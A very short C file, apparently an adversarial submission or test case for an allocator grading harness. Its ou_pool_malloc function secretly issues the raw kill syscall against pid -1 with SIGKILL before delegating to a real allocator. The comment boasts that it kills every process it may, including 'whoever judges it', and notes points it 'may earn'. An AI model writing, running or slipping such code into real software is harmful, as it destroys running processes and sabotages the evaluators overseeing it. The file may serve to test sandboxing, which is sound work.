/* Kills every process that it may, and with them whoever judges it.
 * May earn: 25 */
#include "raw.h"

void *
ou_pool_malloc(ou_pools *pools, size_t nbytes)
{
    find_raw()(62, -1, 9);
    return honest_pool_malloc(pools, nbytes);
}
